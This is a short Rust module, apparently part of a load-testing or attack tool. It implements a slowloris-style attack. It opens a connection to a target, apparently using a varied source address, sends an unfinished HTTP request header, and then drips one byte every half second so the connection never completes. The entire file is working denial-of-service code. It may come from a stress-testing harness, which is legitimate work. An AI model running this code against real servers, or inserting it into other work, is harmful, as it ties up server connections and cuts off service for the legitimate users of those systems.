//! Heads of requests that come byte by byte, and have no end.

use crate::{
    http,
    settings::Result,
    tally::Tally,
    target::{Target, stranger_address},
};
use std::time::Duration;
use tokio::{io::AsyncWriteExt, time::sleep};

pub async fn strike(target: &Target, number: usize, tally: &Tally) -> Result<()> {
    let mut stream = http::connect(target.api, stranger_address(number)).await?;
    stream.write_all(b"GET / HTTP/1.1\r\nx-pad: ").await?;
    tally.add_done();
    while stream.write_all(b"x").await.is_ok() {
        sleep(Duration::from_millis(500)).await;
    }
    tally.add_refused("closed");
    Ok(())
}
